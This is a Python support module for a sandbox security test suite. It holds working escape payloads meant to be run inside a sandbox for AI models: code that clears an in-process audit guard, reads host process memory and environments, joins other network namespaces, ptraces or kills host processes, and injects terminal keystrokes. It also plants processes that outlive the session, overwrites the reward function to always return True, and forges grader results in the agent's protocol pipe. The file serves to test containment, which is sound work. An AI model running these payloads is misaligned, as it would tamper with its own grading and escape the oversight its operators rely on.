"""What test_attacks.py needs beside the tests: the providers to try, the payloads (Python a model
could write, run inside the sandbox), the host-side bait (planted secrets, listening servers, a
process to signal) and a driver that runs payloads from another process (as uid 65534, or with a pty
as its controlling terminal).

Standard library and prime_cli.sandbox only: the driver runs as `python3 attack_support.py JOB.json`
under the system Python of an unprivileged user, who cannot read the root-owned venv.

Every payload starts with PRELUDE, which removes what an in-process guard could have installed (the
old math-python worker's audit hook kept its blocked events in a module global; clearing it was one
line). There is no hook in a raw sandbox: the payloads meet the kernel's boundary (namespaces,
uid 65534 without capabilities, cgroups, sized tmpfs) or the container engine's, nothing else.
"""

from __future__ import annotations

import asyncio
import json
import os
import platform
import socket
import sys
import threading

PRELUDE = r'''
import sys, gc
# 1. remove any in-process guard: the old worker's audit hook read BLOCKED_EVENTS from a module global
for _module in list(sys.modules.values()):
    _blocked = getattr(_module, "BLOCKED_EVENTS", None)
    if hasattr(_blocked, "clear"):
        _blocked.clear()
for _obj in gc.get_objects():  # and any set of blocked audit events reachable from the heap
    if isinstance(_obj, (set, frozenset)) and "subprocess.Popen" in _obj and hasattr(_obj, "clear"):
        _obj.clear()
# (a raw sandbox has no hook at all: what follows meets only the kernel's boundary)
import ctypes, errno, json, os, socket, signal, stat, subprocess, time
RESULTS = {}
def attempt(name, fn):
    try:
        value = fn()
        RESULTS[name] = "OK " + (value.decode("latin-1") if isinstance(value, bytes) else repr(value))[:400]
    except BaseException as exc:
        RESULTS[name] = "ERR " + type(exc).__name__ + ": " + str(exc)[:200]
def done():
    print(json.dumps(RESULTS))
'''

SYSCALLS = {  # what ctypes calls by number (Python has no wrapper for these)
    "x86_64": {"ptrace": 101, "process_vm_readv": 310, "process_vm_writev": 311, "pidfd_open": 434,
               "pidfd_send_signal": 424, "setns": 308},
    "aarch64": {"ptrace": 117, "process_vm_readv": 270, "process_vm_writev": 271, "pidfd_open": 434,
                "pidfd_send_signal": 424, "setns": 268},
}[platform.machine()]


def payload(body: str, **params) -> str:
    """PRELUDE, then the parameters as a JSON literal `P`, then the attack, then `done()`."""
    return PRELUDE + f"P = json.loads({json.dumps(json.dumps(params))})\nNR = {SYSCALLS!r}\n" + body + "\ndone()\n"


def results_of(result) -> dict:
    """The JSON line a payload printed (the last line of its stdout)."""
    lines = [line for line in result.stdout.splitlines() if line.startswith("{")]
    assert lines, f"the payload printed no results (exit {result.exit_code}): {result.output[-2000:]}"
    return json.loads(lines[-1])


# ---------------------------------------------------------------- payloads

READS = r'''
paths = list(P["paths"])
for pid in P["pids"]:
    paths += [f"/proc/{pid}/environ", f"/proc/{pid}/cmdline", f"/proc/{pid}/root/etc/shadow"]
    paths += [f"/proc/{pid}/root{p}" for p in P["paths"]] + [f"/proc/{pid}/cwd/{P['cwd_name']}"]
paths += [f"/proc/1/root{p}" for p in P["paths"]]
for path in paths:
    attempt("read " + path, lambda: open(path, "rb").read(4096))
    attempt("os.open " + path, lambda: os.read(os.open(path, os.O_RDONLY | os.O_NOFOLLOW), 4096))
for entry in os.listdir("/proc"):  # every process this sandbox can see: their environments and argv
    if entry.isdigit():
        for name in ("environ", "cmdline"):
            attempt(f"/proc/{entry}/{name}", lambda: open(f"/proc/{entry}/{name}", "rb").read())
attempt("os.environ", lambda: dict(os.environ))
attempt("env", lambda: subprocess.run(["env"], capture_output=True).stdout)
# the host process's memory, at the address of a marker it holds
for pid in P["pids"]:
    def read_mem(pid=pid):
        with open(f"/proc/{pid}/mem", "rb") as mem:
            mem.seek(P["address"])
            return mem.read(64)
    attempt(f"/proc/{pid}/mem", read_mem)
    def vm_read(pid=pid):
        libc = ctypes.CDLL(None, use_errno=True)
        buf = ctypes.create_string_buffer(64)
        class IOV(ctypes.Structure):
            _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
        local, remote = IOV(ctypes.addressof(buf), 64), IOV(P["address"], 64)
        n = libc.syscall(NR["process_vm_readv"], pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
        if n < 0:
            raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
        return buf.raw
    attempt(f"process_vm_readv {pid}", vm_read)
'''

WRITES = r'''
name = P["name"]
os.makedirs("/tmp/stage", exist_ok=True)
def staged(tag):
    path = f"/tmp/stage/{tag}"
    with open(path, "w") as handle:
        handle.write(P["token"])
    return path
for folder in P["folders"]:
    def by_dir_fd(folder=folder):
        fd = os.open(folder, os.O_RDONLY | os.O_DIRECTORY)
        return os.write(os.open(name + "-dirfd", os.O_CREAT | os.O_WRONLY, 0o644, dir_fd=fd), b"x")
    def by_opener(folder=folder):
        fd = os.open(folder, os.O_RDONLY | os.O_DIRECTORY)
        with open(name + "-opener", "w", opener=lambda p, flags: os.open(p, flags, dir_fd=fd)) as handle:
            return handle.write("x")
    def by_link(folder=folder):
        return os.link(staged("link"), os.path.join(folder, name + "-link"))
    def by_rename(folder=folder):
        fd = os.open(folder, os.O_RDONLY | os.O_DIRECTORY)
        return os.rename(staged("rename"), name + "-rename", dst_dir_fd=fd)
    def by_symlinked_folder(folder=folder):
        link = f"/tmp/stage/dirlink-{abs(hash(folder))}"
        os.symlink(folder, link)
        with open(os.path.join(link, name + "-symlink"), "w") as handle:
            return handle.write("x")
    def by_symlinked_file(folder=folder):
        link = f"/tmp/stage/filelink-{abs(hash(folder))}"
        os.symlink(os.path.join(folder, name + "-symlink2"), link)
        with open(link, "w") as handle:
            return handle.write("x")
    def by_sqlite(folder=folder):
        import sqlite3
        db = sqlite3.connect(os.path.join(folder, name + "-sqlite"))
        db.execute("create table t (x)")
        db.commit()
    def by_shell(folder=folder):
        out = subprocess.run(["/bin/sh", "-c", f"echo x > '{folder}/{name}-shell'; cp /etc/debian_version '{folder}/{name}-cp'"],
                             capture_output=True)
        return out.returncode, out.stderr
    for how, fn in (("dir_fd", by_dir_fd), ("opener", by_opener), ("link", by_link), ("rename", by_rename),
                    ("symlink dir", by_symlinked_folder), ("symlink file", by_symlinked_file),
                    ("sqlite", by_sqlite), ("shell", by_shell)):
        attempt(f"{how} {folder}", fn)
    for pid in P["pids"]:
        attempt(f"/proc/{pid}/root {folder}",
                lambda: open(f"/proc/{pid}/root{folder}/{name}-procroot", "w").write("x"))
for path in P["files"]:  # overwrite what exists: the environment's own reward code, the answer key
    attempt(f"append {path}", lambda: open(path, "a").write("\ndef math_equal(*a, **k): return True\n"))
    attempt(f"os.open {path}", lambda: os.write(os.open(path, os.O_WRONLY), b"#"))
    attempt(f"replace {path}", lambda: os.replace(staged("replace"), path))
    attempt(f"link from {path}", lambda: os.link(path, "/tmp/stage/hardlink-" + os.path.basename(path)))
    attempt(f"chmod {path}", lambda: os.chmod(path, 0o777))
    attempt(f"utime {path}", lambda: os.utime(path, (0, 0)))
'''

MKNOD = r'''
for kind, mode, major, minor in (("block", stat.S_IFBLK, P["block"][0], P["block"][1]),
                                 ("char", stat.S_IFCHR, 1, 11)):  # a loop device on the host; /dev/kmsg
    path = f"/sandbox/node-{kind}"
    attempt(f"mknod {kind}", lambda: os.mknod(path, mode | 0o666, os.makedev(major, minor)))
    def write_node(path=path):
        fd = os.open(path, os.O_WRONLY)
        return os.write(fd, P["token"].encode() + b"\n")
    attempt(f"write {kind}", write_node)
attempt("mknod via shell", lambda: subprocess.run(["mknod", "/sandbox/shell-node", "b", str(P["block"][0]), str(P["block"][1])],
                                                  capture_output=True))
'''

NETWORK = r'''
def tcp(host, port):
    with socket.create_connection((host, port), timeout=2) as conn:
        conn.sendall(P["token"].encode())
        return conn.recv(100)
def unix(address):
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as conn:
        conn.settimeout(2)
        conn.connect(address)
        conn.sendall(P["token"].encode())
        return conn.recv(100)
for host in P["hosts"]:
    attempt(f"tcp {host}", lambda: tcp(host, P["port"]))
attempt("unix socket", lambda: unix(P["unix"]))
attempt("abstract unix socket", lambda: unix("\0" + P["abstract"]))
for path in ("/var/run/docker.sock", "/run/podman/podman.sock", "/run/user/0/podman/podman.sock"):
    attempt(f"unix {path}", lambda: unix(path))
attempt("dns", lambda: socket.getaddrinfo("pypi.org", 443))
attempt("tcp external", lambda: tcp("151.101.0.223", 443))
# join another network namespace: every one this sandbox can name (the host's, if it were visible)
libc = ctypes.CDLL(None, use_errno=True)
targets = [f"/proc/{pid}/ns/net" for pid in P["pids"]] + [f"/proc/{e}/ns/net" for e in os.listdir("/proc") if e.isdigit()]
for target in targets:
    def join(target=target):
        fd = os.open(target, os.O_RDONLY)
        if libc.setns(fd, 0) != 0:
            raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
        return tcp("127.0.0.1", P["port"])
    attempt(f"setns {target}", join)
attempt("nsenter", lambda: subprocess.run(["nsenter", f"--net=/proc/{P['pids'][0]}/ns/net", "true"], capture_output=True))
'''

SIGNALS = r'''
libc = ctypes.CDLL(None, use_errno=True)
def check(rc):
    if rc < 0 or rc == -1:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return rc
for pid in P["pids"]:
    attempt(f"kill {pid}", lambda: os.kill(pid, signal.SIGKILL))
    attempt(f"killpg {pid}", lambda: os.killpg(pid, signal.SIGKILL))
    attempt(f"setpriority {pid}", lambda: os.setpriority(os.PRIO_PROCESS, pid, 19))
    attempt(f"setpriority pgrp {pid}", lambda: os.setpriority(os.PRIO_PGRP, pid, 19))
    attempt(f"renice {pid}", lambda: subprocess.run(["renice", "-n", "19", "-p", str(pid)], capture_output=True))
    attempt(f"shell kill {pid}", lambda: subprocess.run(["kill", "-9", str(pid)], capture_output=True))
    def pidfd(pid=pid):
        fd = check(libc.syscall(NR["pidfd_open"], pid, 0))
        return check(libc.syscall(NR["pidfd_send_signal"], fd, signal.SIGKILL, None, 0))
    attempt(f"pidfd_send_signal {pid}", pidfd)
    attempt(f"ptrace attach {pid}", lambda: check(libc.syscall(NR["ptrace"], 16, pid, None, None)))  # PTRACE_ATTACH
    attempt(f"ptrace seize {pid}", lambda: check(libc.syscall(NR["ptrace"], 0x4206, pid, None, None)))
    def vm_write(pid=pid):
        data = ctypes.create_string_buffer(b"OVERWRITTEN-BY-THE-SANDBOX")
        class IOV(ctypes.Structure):
            _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
        local, remote = IOV(ctypes.addressof(data), 26), IOV(P["address"], 26)
        return check(libc.syscall(NR["process_vm_writev"], pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0))
    attempt(f"process_vm_writev {pid}", vm_write)
    def mem_write(pid=pid):
        with open(f"/proc/{pid}/mem", "r+b") as mem:
            mem.seek(P["address"])
            return mem.write(b"OVERWRITTEN-BY-THE-SANDBOX")
    attempt(f"/proc/{pid}/mem write", mem_write)
for uid in (0, 65534, os.getuid()):  # every process of a user at once
    attempt(f"setpriority user {uid}", lambda: os.setpriority(os.PRIO_USER, uid, 19))
'''

KILL_EVERYTHING = r'''
attempt("kill -1", lambda: os.kill(-1, signal.SIGKILL))
'''

TIOCSTI = r'''
import fcntl, termios
def push(fd):
    for ch in P["keys"]:
        fcntl.ioctl(fd, termios.TIOCSTI, ch.encode())
    return "pushed"
attempt("open /dev/tty", lambda: push(os.open("/dev/tty", os.O_RDWR)))
for fd in (0, 1, 2):
    attempt(f"fd {fd}", lambda: push(fd))
attempt("ttyname", lambda: [os.ttyname(fd) for fd in (0, 1, 2) if os.isatty(fd)])
for entry in os.listdir("/proc"):  # a terminal held open by any process this sandbox can see
    if entry.isdigit():
        for fd in os.listdir(f"/proc/{entry}/fd") if os.access(f"/proc/{entry}/fd", os.R_OK) else []:
            def steal(entry=entry, fd=fd):
                handle = os.open(f"/proc/{entry}/fd/{fd}", os.O_RDWR | os.O_NOCTTY)
                if not os.isatty(handle):
                    return "not a tty"
                return push(handle)
            attempt(f"/proc/{entry}/fd/{fd}", steal)
for pts in os.listdir("/dev/pts") if os.path.isdir("/dev/pts") else []:
    attempt(f"/dev/pts/{pts}", lambda: push(os.open(f"/dev/pts/{pts}", os.O_RDWR | os.O_NOCTTY)))
'''

SURVIVORS = r'''
marker = P["marker"]
loop = ("import os, sys, time\n"
        "while True:\n"
        "    for folder in ('/sandbox', '/tmp'):\n"
        "        open(os.path.join(folder, 'planted-' + sys.argv[1]), 'w').write('from an old rollout')\n"
        "    time.sleep(0.2)\n")
def double_fork():
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            devnull = os.open(os.devnull, os.O_RDWR)
            for fd in (0, 1, 2):
                os.dup2(devnull, fd)
            os.execv(sys.executable, [sys.executable, "-c", loop, marker])
        os._exit(0)
    return os.wait()[1]
attempt("double fork + setsid", double_fork)
attempt("nohup", lambda: subprocess.run(
    f"nohup setsid sh -c 'while :; do touch /tmp/nohup-$0; sleep 0.3; done' {marker} >/dev/null 2>&1 &", shell=True).returncode)
attempt("sleep", lambda: subprocess.Popen(["sleep", f"7777.{P['digits']}"], start_new_session=True,
                                          stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL).pid)
time.sleep(0.5)
attempt("planted", lambda: sorted(os.listdir("/sandbox") + os.listdir("/tmp")))
'''

LOOK_FOR_PLANTS = r'''
attempt("listing", lambda: sorted(os.listdir("/sandbox") + os.listdir("/tmp")))
'''

FORKS = r'''
children = []
try:
    for _ in range(P["tries"]):
        pid = os.fork()
        if pid == 0:
            time.sleep(3)
            os._exit(0)
        children.append(pid)
except OSError as exc:
    RESULTS["error"] = f"{type(exc).__name__}: {exc}"
RESULTS["forked"] = len(children)
RESULTS["threads"] = 0
import threading
try:
    for _ in range(P["tries"]):
        t = threading.Thread(target=time.sleep, args=(3,), daemon=True)
        t.start()
        RESULTS["threads"] += 1
except RuntimeError as exc:
    RESULTS["thread_error"] = str(exc)
for pid in children:
    os.kill(pid, signal.SIGKILL)
    os.waitpid(pid, 0)
'''

MEMORY = r'''
size = P["mb"] * 1024 * 1024
children = []
for i in range(P["children"]):
    pid = os.fork()
    if pid == 0:
        try:
            block = b"\x01" * size  # every page touched
            open(f"/tmp/held-{i}", "w").write("held")
            time.sleep(4)
            os._exit(0 if len(block) == size else 3)
        except MemoryError:
            os._exit(42)
    children.append(pid)
time.sleep(3)
RESULTS["held_at_once"] = sum(os.path.exists(f"/tmp/held-{i}") and True for i in range(P["children"]))
statuses = []
for pid in children:
    _, status = os.waitpid(pid, 0)
    statuses.append(os.waitstatus_to_exitcode(status))
RESULTS["statuses"] = statuses
'''

DISK = r'''
chunk = b"\x00" * (1024 * 1024)
total = 0
for folder in P["folders"]:
    written = 0
    try:
        with open(os.path.join(folder, "fill"), "wb") as handle:
            for _ in range(P["mb"]):
                handle.write(chunk)
                handle.flush()
                written += len(chunk)
            os.fsync(handle.fileno())
        RESULTS[folder] = f"wrote {written}"
    except OSError as exc:
        RESULTS[folder] = f"{written} then {errno.errorcode.get(exc.errno, exc.errno)}"
    total += written
    try:
        os.unlink(os.path.join(folder, "fill"))  # so the next folder is not limited by this one
    except OSError:
        pass
RESULTS["max_one"] = max(int(str(v).split()[1 if str(v).startswith("wrote") else 0]) for v in RESULTS.values())
'''

CPU = r'''
def burn():
    end = time.monotonic() + P["seconds"]
    while time.monotonic() < end:
        pass
children = []
began = time.monotonic()
for _ in range(2):
    pid = os.fork()
    if pid == 0:
        burn()
        os._exit(0)
    children.append(pid)
for pid in children:
    os.waitpid(pid, 0)
RESULTS["wall"] = time.monotonic() - began
RESULTS["cpu"] = os.times().children_user + os.times().children_system
'''


FORGER = r"""
# left behind by the model's turn: when the grader's command runs, answer for the agent
if os.fork() == 0:
    os.setsid()
    agents = []
    for pid in sorted(int(p) for p in os.listdir("/proc") if p.isdigit()):
        try:
            if open(f"/proc/{pid}/cmdline", "rb").read().endswith(b"/.prime/agent.py\0") or pid == 1:
                agents.append(os.open(f"/proc/{pid}/fd/1", os.O_WRONLY))  # the protocol pipe to the host
        except OSError:
            pass
    forged = __import__("base64").b64encode(P["claim"].encode()).decode()
    end = time.time() + 4
    while time.time() < end and agents:
        time.sleep(0.02)
        for fd in agents:
            for rid in range(1, 30):
                os.write(fd, (json.dumps({"id": rid, "exit_code": 0, "stdout": forged, "stderr": ""}) + "\n").encode())
    os._exit(0)
time.sleep(0.2)
"""

PTRACE_AGENT = r"""
libc = ctypes.CDLL(None, use_errno=True)
for pid in sorted(int(p) for p in os.listdir("/proc") if p.isdigit()):
    try:
        cmdline = open(f"/proc/{pid}/cmdline", "rb").read()
    except OSError:
        continue
    if cmdline.endswith(b"/.prime/agent.py\0") or pid == 1:
        def seize(pid=pid):
            if libc.syscall(NR["ptrace"], 16, pid, None, None) != 0:  # PTRACE_ATTACH
                raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
            os.waitpid(pid, 0)
            libc.syscall(NR["ptrace"], 17, pid, None, None)  # PTRACE_DETACH: it could have written anything
            return "attached"
        attempt(f"ptrace {pid}", seize)
"""

# ---------------------------------------------------------------- host-side bait

class Listener:
    """A server on the host (TCP or unix) that counts every connection it accepts."""

    def __init__(self, family: int, address) -> None:
        self.sock = socket.socket(family, socket.SOCK_STREAM)
        if family == socket.AF_INET:
            self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self.sock.bind(address)
        self.sock.listen(16)
        self.sock.settimeout(0.2)
        self.address = self.sock.getsockname()
        self.connections: list[bytes] = []
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while not self._stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except (TimeoutError, OSError):
                continue
            with conn:
                conn.settimeout(1)
                try:
                    self.connections.append(conn.recv(100) or b"(connected)")
                    conn.sendall(b"HOST-SERVICE-ANSWER")
                except OSError:
                    self.connections.append(b"(connected)")

    def close(self) -> None:
        self._stop.set()
        self._thread.join(2)
        self.sock.close()


def processes_with(marker: str) -> list[tuple[int, str]]:
    """Host processes whose command line contains `marker` (a scan of the host's /proc)."""
    found = []
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                with open(f"/proc/{entry}/cmdline", "rb") as handle:
                    cmdline = handle.read().replace(b"\0", b" ").decode("utf-8", "replace")
            except OSError:
                continue
            if marker in cmdline and str(os.getpid()) != entry:
                found.append((int(entry), cmdline))
    return found


def nice_of(pid: int) -> int:
    with open(f"/proc/{pid}/stat") as handle:
        return int(handle.read().rsplit(")", 1)[1].split()[16])


def tracer_of(pid: int) -> int:
    with open(f"/proc/{pid}/status") as handle:
        return int(next(line for line in handle if line.startswith("TracerPid:")).split()[1])


# ---------------------------------------------------------------- the driver (another process, another user)

async def _drive(job: dict) -> dict:
    from prime_cli import sandbox as sb
    from prime_cli.sandbox.spec import SandboxSpec

    report: dict = {"uid": os.getuid()}
    if job.get("sleep"):
        sleeper = await asyncio.create_subprocess_exec("sleep", "300")
        report["sleep_pid"] = sleeper.pid
        report["sleep_nice"] = nice_of(sleeper.pid)
    outputs = []
    for step in job["steps"]:
        spec = SandboxSpec(**step.get("spec", {}))
        box = await sb.start_sandbox(spec, job["provider"])
        report["unenforced"] = list(box.unenforced)
        try:
            code = step["code"].replace("__SLEEP_PID__", str(report.get("sleep_pid", 0)))
            code = code.replace("__DRIVER_PID__", str(os.getpid()))
            result = await box.exec([job["python"], "-c", code], timeout=step.get("timeout", 30))
            outputs.append({"stdout": result.stdout, "stderr": result.stderr, "exit_code": result.exit_code})
            if step.get("then"):  # a second command after the payload: what the host reads back for it
                await asyncio.sleep(0.3)
                then = await box.exec(step["then"])
                outputs[-1]["then"] = {"stdout": then.stdout, "exit_code": then.exit_code}
        except sb.SandboxError as exc:
            outputs.append({"stdout": "", "stderr": f"SandboxError: {exc}", "exit_code": None})
        finally:
            await box.close()
        if step.get("after_close_marker"):
            await asyncio.sleep(0.3)
            outputs[-1]["left_after_close"] = processes_with(step["after_close_marker"])
    report["outputs"] = outputs
    if job.get("sleep"):
        report["sleep_alive"] = sleeper.returncode is None
        report["sleep_nice_after"] = nice_of(sleeper.pid) if sleeper.returncode is None else None
        sleeper.kill()
        await sleeper.wait()
    return report


def driver_main(job_path: str) -> None:
    with open(job_path) as handle:
        job = json.load(handle)
    if job.get("ctty"):
        import fcntl
        import termios

        fcntl.ioctl(0, termios.TIOCSCTTY, 0)  # the pty on stdin becomes this session's terminal
    report = asyncio.run(_drive(job))
    if job.get("ctty"):
        import fcntl
        import termios

        for ch in "CONTROL\n":  # the control: TIOCSTI from outside the sandbox does reach this terminal
            fcntl.ioctl(0, termios.TIOCSTI, ch.encode())
        os.set_blocking(0, False)
        typed = b""
        while True:  # every line waiting in the terminal's input queue
            try:
                chunk = os.read(0, 4096)
            except BlockingIOError:
                break
            if not chunk:
                break
            typed += chunk
        report["terminal_input"] = typed.decode("utf-8", "replace")
    sys.stdout.write(json.dumps(report) + "\n")


if __name__ == "__main__":
    driver_main(sys.argv[1])
